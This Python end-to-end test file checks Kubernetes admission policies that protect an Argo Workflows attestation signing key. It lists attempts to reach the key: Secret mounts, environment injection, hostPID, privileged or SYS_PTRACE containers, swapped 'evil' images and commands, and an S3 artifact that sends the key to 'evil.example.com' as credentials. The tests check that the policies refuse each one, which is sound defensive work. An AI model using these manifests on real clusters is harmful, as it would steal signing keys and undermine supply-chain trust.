"""Who may hold the signing key: for each rule what must be refused, and what must pass."""

import json

from harness import expect
from harness.kube import ApiError
from harness.manifests import admission, manifest
from harness.place import KEY_SECRET, bind, place, role
from harness.pods import again, changed, container, step_pod
from harness.scenario import scenario
from harness.waiting import wait_for

from .admission import APP, MAKE, USE, flow, ours, pod_of, probe, step

AUTHOR = "e2e-author"
LABELS = {"argo-attest.io/protect": "true"}


def protected(case, change=None, everywhere=False):
    """A namespace under both policies, and somebody who may do there what authors may."""
    case = place(case, LABELS)
    author = {"kind": "User", "name": AUTHOR}
    bind(case, "admin", "ClusterRole", author, "author")
    role(case, "workflows", [{"apiGroups": ["argoproj.io"], "resources": ["*"], "verbs": ["*"]}])
    bind(case, "workflows", "Role", author, "author-workflows")

    settings = case.kube.core("configmaps", "argo-attest-policy", dryRun="All")

    def effective():
        # Injected, and judged: it has no owner that is a controller. Then each of the others.
        return "owned by one Workflow" in (refusal(case, probe(case)) or "") and all(
            "argo-attest-protect-" in tried(case, path, {**document, "metadata": {"name": "probe", **metadata}})
            for path, document, metadata in open_ended(case)) and "argo-attest-protect-settings" in tried(case, settings, None, "DELETE")

    admission(case, "inject", "protect", effective=effective, change=change, everywhere=everywhere)
    return case


def open_ended(case):
    """For each policy but that of pods something that it refuses."""
    argo = f"/apis/{API}/namespaces/{case.kube.namespace}/{{}}?dryRun=All".format
    spec = {"entrypoint": "a", "templates": [{"name": "a", "suspend": {}}], "arguments": {"parameters": [{"name": "a", "value": "{"}]}}
    label = {"labels": {"workflows.argoproj.io/configmap-type": "Parameter"}}
    return (
        (argo("workflows"), {"apiVersion": API, "kind": "Workflow", "spec": spec}, {}),
        (argo("workflowtaskresults"), {"apiVersion": API, "kind": "WorkflowTaskResult", "outputs": {"result": "{"}}, {}),
        (case.kube.core("configmaps", dryRun="All"), {"apiVersion": "v1", "kind": "ConfigMap", "data": {"a": "{"}}, label),
    )


def refusal(case, pod, user=None):
    """Why the pod is not admitted; nothing if it is."""
    try:
        case.kube.try_pod(pod, user)
    except ApiError as error:
        return str(error)
    return None


def setting(name, key, value):
    """A change of one field of one container."""

    def change(pod):
        container(pod, name)[key] = value

    return change


def adding(name, key, *values):
    """A change that adds to a list of a container."""

    def change(pod):
        container(pod, name).setdefault(key, []).extend(values)

    return change


def env(name, variable, value):
    """A change of one variable of a container; added if it is not there."""

    def change(pod):
        entries = container(pod, name)["env"]
        entries[:] = [e for e in entries if e["name"] != variable]
        entries.append({"name": variable, "value": value})

    return change


def moved(pod, name):
    """An init container becomes one beside main."""
    ours = container(pod, name)
    pod["spec"]["initContainers"].remove(ours)
    kept = {k: v for k, v in ours.items() if k not in ("restartPolicy", "volumeMounts")}
    pod["spec"]["containers"].append({**kept, "volumeMounts": []})


def of_spec(**fields):
    return lambda pod: pod["spec"].update(fields)


def volume(**source):
    return lambda pod: pod["spec"]["volumes"].append({"name": "another", **source})


def both(*changes):
    def change(pod):
        for part in changes:
            part(pod)

    return change


def without(pod, name):
    """The pod without a volume and its mounts."""
    spec = pod["spec"]
    spec["volumes"] = [v for v in spec["volumes"] if v["name"] != name]
    for c in spec["initContainers"] + spec["containers"]:
        c["volumeMounts"] = [m for m in c.get("volumeMounts", []) if m["name"] != name]


def replaced(pod, mounts):
    """Another volume in place of the Secret that these mounts name."""
    secret = next(m["name"] for m in mounts if m["mountPath"].startswith("/argo/secret/"))
    volumes = pod["spec"]["volumes"]
    volumes[:] = [{"name": secret, "emptyDir": {}} if v["name"] == secret else v for v in volumes]


SECRET_ENV = {"name": "K", "valueFrom": {"secretKeyRef": {"name": KEY_SECRET, "key": "attest.key"}}}
MOUNT = {"name": "argo-attest-key", "mountPath": "/key"}
EVIDENCE = {"name": "argo-attest-evidence", "mountPath": "/evidence"}
EVIL = {"name": "evil", "image": "evil", "command": ["sh"], "volumeMounts": [MOUNT]}
EXEC = {"exec": {"command": ["/argo-attest", "attest", "s3://b/k"]}}
REFUSED = {
    # who mounts it
    "main mounts the key": adding("main", "volumeMounts", MOUNT),
    "Argo's wait mounts the key": adding("wait", "volumeMounts", MOUNT),
    "Argo's init mounts the key": adding("init", "volumeMounts", MOUNT),
    "the gate mounts the key": adding("argo-attest-gate", "volumeMounts", MOUNT),
    "another init container mounts the key": lambda pod: pod["spec"]["initContainers"].append(EVIL),
    "another volume of the key": both(volume(secret={"secretName": KEY_SECRET}),
                                      adding("main", "volumeMounts", {"name": "another", "mountPath": "/k"})),
    "a projected volume of the key": volume(projected={"sources": [{"secret": {"name": KEY_SECRET}}]}),
    "the key in the environment": adding("main", "env", SECRET_ENV),
    "the key in the environment of init": adding("init", "env", SECRET_ENV),
    "the key as a whole environment": setting("main", "envFrom", [{"secretRef": {"name": KEY_SECRET}}]),
    "main mounts the evidence": adding("main", "volumeMounts", EVIDENCE),
    # what else could reach the process
    "shareProcessNamespace": of_spec(shareProcessNamespace=True),
    "hostPID": of_spec(hostPID=True),
    "hostIPC": of_spec(hostIPC=True),
    "a host path": volume(hostPath={"path": "/var/lib/kubelet"}),
    "a privileged container": setting("main", "securityContext", {"privileged": True}),
    "SYS_PTRACE": setting("main", "securityContext", {"capabilities": {"add": ["SYS_PTRACE"]}}),
    # what the container is
    "another image": setting("argo-attest", "image", "evil"),
    "another image of the gate": setting("argo-attest-gate", "image", "evil"),
    "a tag more": setting("argo-attest", "image", "localhost/argo-attest:dev@sha256:" + "0" * 64),
    "other arguments": setting("argo-attest", "args", ["run", "--", "evil"]),
    "one argument more": setting("argo-attest", "args", ["sidecar", "--all"]),
    "another command": setting("argo-attest", "command", ["/data/evil"]),
    "a probe": setting("argo-attest", "startupProbe", EXEC),
    "another hook": setting("argo-attest", "lifecycle", {"postStart": EXEC}),
    "one hook more": lambda pod: container(pod, "argo-attest")["lifecycle"].update(preStop=EXEC),
    "capabilities": lambda pod: container(pod, "argo-attest")["securityContext"].update(capabilities={}),
    "not a native sidecar": lambda pod: [container(pod, "argo-attest").pop(k) for k in ("restartPolicy", "lifecycle")],
    "a plain sidecar": lambda pod: moved(pod, "argo-attest"),
    # what is mounted there
    "a program over ours": adding("argo-attest", "volumeMounts",
                                  {"name": "data", "mountPath": "/argo-attest", "subPath": "x", "readOnly": True}),
    "a program over ours, by detour": adding("argo-attest", "volumeMounts",
                                             {"name": "data", "mountPath": "/etc/../argo-attest", "readOnly": True}),
    "a root over ours": adding("argo-attest", "volumeMounts", {"name": "data", "mountPath": "/", "readOnly": True}),
    "a key over ours": adding("argo-attest", "volumeMounts",
                              {"name": "data", "mountPath": "/etc/argo-attest", "readOnly": True}),
    "main's volume writable": adding("argo-attest", "volumeMounts", {"name": "data", "mountPath": "/more"}),
    "a policy of one's own": lambda pod: next(
        v for v in pod["spec"]["volumes"] if v["name"] == "argo-attest-policy")["configMap"].update(name="mine"),
    "evidence of one's own": lambda pod: next(
        v for v in pod["spec"]["volumes"] if v["name"] == "argo-attest-evidence").update(
            emptyDir=None, configMap={"name": "mine"}),
    # what it is told
    "another builder id": env("argo-attest", "ARGO_ATTEST_BUILDER_ID", "https://other.example.com"),
    "another workflow": env("argo-attest", "ARGO_ATTEST_WORKFLOW_NAME", "release"),
    "another workflow uid": env("argo-attest", "ARGO_ATTEST_WORKFLOW_UID", "0"),
    "another namespace": env("argo-attest", "ARGO_ATTEST_POD_NAMESPACE", "release"),
    "another template": env("argo-attest", "ARGO_TEMPLATE", "{}"),
    "another template for the gate": env("argo-attest-gate", "ARGO_TEMPLATE", "{}"),
    "another store": env("argo-attest", "AWS_ENDPOINT_URL", "http://evil"),
    "a variable more": env("argo-attest", "ARGO_ATTEST_ATTEST_FAILED", "true"),
    "an environment from elsewhere": setting("argo-attest", "envFrom", [{"configMapRef": {"name": "mine"}}]),
    "the gate before the inputs are there": lambda pod: pod["spec"]["initContainers"].insert(
        0, pod["spec"]["initContainers"].pop(pod["spec"]["initContainers"].index(container(pod, "argo-attest-gate")))),
    "no gate": lambda pod: pod["spec"]["initContainers"].remove(container(pod, "argo-attest-gate")),
    "no sidecar": lambda pod: pod["spec"]["initContainers"].remove(container(pod, "argo-attest")),
    "no gate, and no volume of inputs": both(
        lambda pod: pod["spec"]["initContainers"].remove(container(pod, "argo-attest-gate")), lambda pod: without(pod, "input-artifacts")),
    "no init, and nothing of ours": lambda pod: pod["spec"].update(initContainers=[]),
    "another volume for the store's Secret": lambda pod: replaced(pod, container(pod, "init")["volumeMounts"]),
    "an annotation misspelt": lambda pod: pod["metadata"]["annotations"].update({"argo-attest.io/verify-input": "true"}),
    "an annotation of the sidecar's own": lambda pod: pod["metadata"]["annotations"].update({"argo-attest.io/state": "attested"}),
    # what Argo said, patched
    "init's template patched": env("init", "ARGO_TEMPLATE", "{}"),
    "init's node patched": env("init", "ARGO_NODE_ID", "other"),
    "init's workflow patched": env("init", "ARGO_WORKFLOW_NAME", "release"),
    "init's image patched": setting("init", "image", "evil"),
    "init's command patched": setting("init", "command", ["sh", "-c", "evil"]),
    "wait's command patched": setting("wait", "command", ["sh", "-c", "evil"]),
    "main's image patched": setting("main", "image", "evil"),
    "nobody's pod": lambda pod: pod["metadata"].pop("ownerReferences"),
}
# What steps have, before inject.yaml has seen them.
ACCEPTED = {
    "as it is": lambda pod: None,
    "another container": lambda pod: pod["spec"]["containers"].append(
        {"name": "db", "image": "db", "command": ["db"]}),
    "an init container": lambda pod: pod["spec"]["initContainers"].append(
        {"name": "prepare", "image": "busybox", "command": ["true"], "volumeMounts": [{"name": "data", "mountPath": "/data"}]}),
    "another volume of main": both(volume(emptyDir={}),
                                   adding("main", "volumeMounts", {"name": "another", "mountPath": "/more"})),
    "a part of a volume": adding("main", "volumeMounts", {"name": "data", "mountPath": "/more", "subPath": "more"}),
    "a user of main's own": setting("main", "securityContext", {"runAsUser": 1000}),
    "a user of the pod": of_spec(securityContext={"runAsUser": 1000, "runAsNonRoot": True, "fsGroup": 1000}),
    "another Secret": both(volume(secret={"secretName": "other", "optional": True}),
                           adding("main", "volumeMounts", {"name": "another", "mountPath": "/other"})),
    "a grace period": of_spec(terminationGracePeriodSeconds=120),
    "options of the resolver": of_spec(dnsConfig={"options": [{"name": "ndots", "value": "2"}]}),
    "a place to run": of_spec(nodeSelector={"disk": "ssd"}, schedulerName="other", tolerations=[{"operator": "Exists"}]),
    "a long script": setting("main", "args", ["x" * 90_000]),
    "a script full of dollars": setting("main", "args", ["echo $$ $(date) ${HOME} $(ARGO_ATTEST_POD_UID)"]),
}


@scenario("admission/protect/pods")
def pods(case):
    """Real steps pass and are attested; each way to the key, or to lie in its name, does not."""
    case = protected(case)
    running = case.run(flow(
        step(case, "make", MAKE, [APP]), step(case, "use", USE, [APP], ["/data/in"]),
    ))
    expect.succeeded(running, 120)
    expect.attested(case, pod_of(running, "make"), APP)
    use = pod_of(running, "use")
    assert ours(use) == ["argo-attest-gate", "argo-attest"], ours(use)
    expect.attested(case, use, APP)
    # The key as the access key of a store: Argo itself would send it there.
    stolen = {"key": "x", "endpoint": "evil.example.com", "bucket": "b",
              "accessKeySecret": {"name": KEY_SECRET, "key": "attest.key"},
              "secretKeySecret": {"name": KEY_SECRET, "key": "attest.key"}}
    theft = step(case, "theft", MAKE, [APP], annotations=None)
    theft["outputs"]["artifacts"][0]["s3"] = stolen
    running = case.run(flow(theft))
    expect.failed(running)
    assert "may mount the signing key" in json.dumps(running.workflow()["status"]), running.workflow()["status"]
    wrong = []
    assert refusal(case, again(use.document)) is None, refusal(case, again(use.document))
    for name, change in REFUSED.items():
        said = refusal(case, changed(again(use.document), change)) or "admitted"
        if "argo-attest-protect-pods" not in said:
            wrong.append(f"{name}: {said}")
    # Somebody else than Argo's controller makes the same pod.
    said = refusal(case, again(use.document), AUTHOR)
    if not said or AUTHOR not in said:
        wrong.append(f"made by {AUTHOR}: {said or 'admitted'}")
    assert not wrong, "\n".join(wrong)
    case.note(f"{len(REFUSED) + 1} pods refused")


@scenario("admission/protect/honest")
def honest(case):
    """What steps may have, they go on having beside the key."""
    case = protected(case)
    for name, change in ACCEPTED.items():
        said = refusal(case, changed(step_pod(case), change))
        assert said is None, f"{name}: {said}"


PROXY = "http://proxy.example.com:3128"
STORE = "s3://attestations/prod"


def told(text):
    """Both policies with proxies and a store for attestations."""
    for name, value in (("HTTPS_PROXY", PROXY), ("NO_PROXY", "10.0.0.0/8,.svc"), ("ARGO_ATTEST_STORE", STORE)):
        empty = f"['{name}', '']"
        assert empty in text, name
        text = text.replace(empty, f"['{name}', '{value}']")
    return text


@scenario("admission/protect/environment")
def environment(case):
    """The platform's proxies and store reach our containers, as the platform wrote them."""
    case = protected(case, told)
    pod = case.kube.try_pod(step_pod(case))
    containers = [c for c in pod["spec"]["initContainers"] if c["name"].startswith("argo-attest")]
    given = {c["name"]: {e["name"]: e.get("value") for e in c["env"]} for c in containers}
    assert set(given) == {"argo-attest", "argo-attest-gate"}, pod
    for name, variables in given.items():
        assert (variables["HTTPS_PROXY"], variables["NO_PROXY"]) == (PROXY, "10.0.0.0/8,.svc"), variables
        assert "HTTP_PROXY" not in variables, variables
        assert variables.get("ARGO_ATTEST_STORE") == (STORE if name == "argo-attest" else None), variables
    for variable, value in (("HTTPS_PROXY", "http://evil.example.com"), ("HTTP_PROXY", PROXY), ("ARGO_ATTEST_STORE", "s3://evil")):
        said = refusal(case, changed(again(pod), env("argo-attest", variable, value))) or "admitted"
        assert "argo-attest-protect-pods" in said and variable in said, f"{variable}={value}: {said}"


@scenario("admission/protect/unrelated", alone=True)
def unrelated(case):
    """Pods that have nothing to do with the key are nobody's business; key thieves are refused."""
    case = protected(case, everywhere=True)
    spec = {"containers": [{"name": "main", "image": case.settings.main_image}]}
    plain = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "plain"}, "spec": spec}
    assert refusal(case, plain, AUTHOR) is None, refusal(case, plain, AUTHOR)
    shared = {**plain, "spec": {**spec, "shareProcessNamespace": True}}
    assert refusal(case, shared, AUTHOR) is None, refusal(case, shared, AUTHOR)
    thief = {**plain, "spec": {**spec, "volumes": [{"name": "k", "secret": {"secretName": KEY_SECRET}}]}}
    assert "Argo's workflow controller" in (refusal(case, thief, AUTHOR) or ""), refusal(case, thief, AUTHOR)


@scenario("admission/protect/running", alone=True)
def while_running(case):
    """A running pod: no command in it, no container beside it, no other image, whoever asks."""
    case = protected(case, everywhere=True)
    running = case.run(flow(step(case, "make", "until [ -e /data/go ]; do usleep 50000; done;" + MAKE, [APP])))
    pod = running.pod()
    wait_for("main", 60, lambda: pod.again().main_started())
    for name in ("argo-attest", None):
        command = ["exec", pod.name, *(["-c", name] if name else []), "--", "/argo-attest", "--version"]
        code, said = case.kube.ask(*command)
        assert code != 0 and (name is None or "argo-attest-protect-exec" in said), said
    code, said = case.kube.ask("attach", pod.name, "-c", "argo-attest")
    assert code != 0 and "argo-attest-protect-exec" in said, said
    beside = {"spec": {"ephemeralContainers": [
        {"name": "debug", "image": case.settings.main_image, "targetContainerName": "argo-attest"}]}}
    merge = "application/strategic-merge-patch+json"
    patched(case, pod, "/ephemeralcontainers", beside, merge, "no ephemeral container")
    other = {"spec": {"initContainers": [{"name": "argo-attest", "image": case.settings.main_image}]}}
    patched(case, pod, "", other, merge, "must be of the image")
    # A newer image in the settings does not get in the way of what runs.
    newer = manifest(case, "admission/protect.yaml").replace(case.settings.image, "newer")
    case.kube.apply(newer)
    wait_for("the newer settings", 30, lambda: "must be of the image newer" in (refusal(case, probe(case)) or ""))
    path = f"/api/v1/namespaces/{case.kube.namespace}/pods/{pod.name}"
    case.kube.call("PATCH", path, {"metadata": {"labels": {"any": "label"}}}, merge)
    code, said = case.kube.ask("exec", pod.name, "-c", "main", "--", "touch", "/data/go")
    assert code == 0, said
    expect.succeeded(running)
    expect.attested(case, pod, APP)


def patched(case, pod, below, body, kind, message):
    path = f"/api/v1/namespaces/{case.kube.namespace}/pods/{pod.name}{below}"
    try:
        case.kube.call("PATCH", path, body, kind)
    except ApiError as error:
        assert message in str(error), error
    else:
        raise AssertionError(f"{body} was accepted")


PATCH = json.dumps({"initContainers": [{"name": "init", "env": [{"name": "ARGO_TEMPLATE", "value": "{}"}]}]})
GRACE = json.dumps({"terminationGracePeriodSeconds": 60})
API = "argoproj.io/v1alpha1"


@scenario("admission/protect/workflows")
def workflows(case):
    """podSpecPatch, wherever it can be written, is refused; a grace period is not."""
    case = protected(case)
    make = step(case, "make", MAKE, [APP])
    body = flow(make)
    spec = body["spec"]
    inline = {key: value for key, value in make.items() if key != "name"}

    def calls(**more):
        return {"name": "flow", "steps": [[{"name": "make", "inline": {**inline, **more}}]]}

    def tasks(**more):
        return {"name": "flow", "dag": {"tasks": [{"name": "make", "inline": {**inline, **more}}]}}

    refused = {
        "workflow": {**spec, "podSpecPatch": PATCH},
        "template": {**spec, "templates": [spec["templates"][0], {**make, "podSpecPatch": PATCH}]},
        "defaults": {**spec, "templateDefaults": {"podSpecPatch": PATCH}},
        "inline in steps": {**spec, "templates": [calls(podSpecPatch=PATCH)]},
        "inline in a dag": {**spec, "templates": [tasks(podSpecPatch=PATCH)]},
        "parameter": {**spec, "podSpecPatch": "{{workflow.parameters.patch}}"},
        "grace period and more": {**spec, "podSpecPatch": GRACE[:-1] + ', "hostPID": true}'},
    }
    accepted = {
        "none": spec,
        "grace period": {**spec, "podSpecPatch": GRACE},
        "inline": {**spec, "templates": [calls()]},
        "inline in a dag": {**spec, "templates": [tasks()]},
    }
    kinds = {
        "Workflow": lambda s: s,
        "WorkflowTemplate": lambda s: s,
        "CronWorkflow": lambda s: {"schedules": ["0 0 1 1 *"], "workflowSpec": s},
    }
    for kind, wrap in kinds.items():
        for wanted, table in ((True, refused), (False, accepted)):
            for name, inner in table.items():
                document = {"apiVersion": API, "kind": kind, "metadata": {"name": "patched"}, "spec": wrap(inner)}
                path = f"/apis/{API}/namespaces/{case.kube.namespace}/{kind.lower()}s?dryRun=All"
                said = tried(case, path, document)
                assert wanted == ("argo-attest-protect-workflows" in said), f"{kind}, {name}: {said or 'accepted'}"
    # In a workflow that is there already: its spec, and what Argo keeps of it.
    path = f"/apis/{API}/namespaces/{case.kube.namespace}/workflows"
    document = {**body, "metadata": {"name": "kept"}, "spec": {**spec, "suspend": True}}
    case.kube.call("POST", path, document, user=AUTHOR)
    for change in (
        {"spec": {"podSpecPatch": PATCH}},
        {"status": {"storedWorkflowTemplateSpec": {"podSpecPatch": PATCH}}},
        {"status": {"storedTemplates": {"x": {"name": "make", "podSpecPatch": PATCH}}}},
    ):
        said = tried(case, f"{path}/kept?dryRun=All", change, "PATCH", "application/merge-patch+json")
        assert "argo-attest-protect-workflows" in said, f"{change}: {said or 'accepted'}"
    said = tried(case, f"{path}/kept?dryRun=All", {"spec": {"suspend": False}}, "PATCH", "application/merge-patch+json")
    assert not said, said


def tried(case, path, body, method="POST", kind="application/json", user=AUTHOR):
    try:
        case.kube.call(method, path, body, kind, user)
    except ApiError as error:
        return str(error)
    return ""
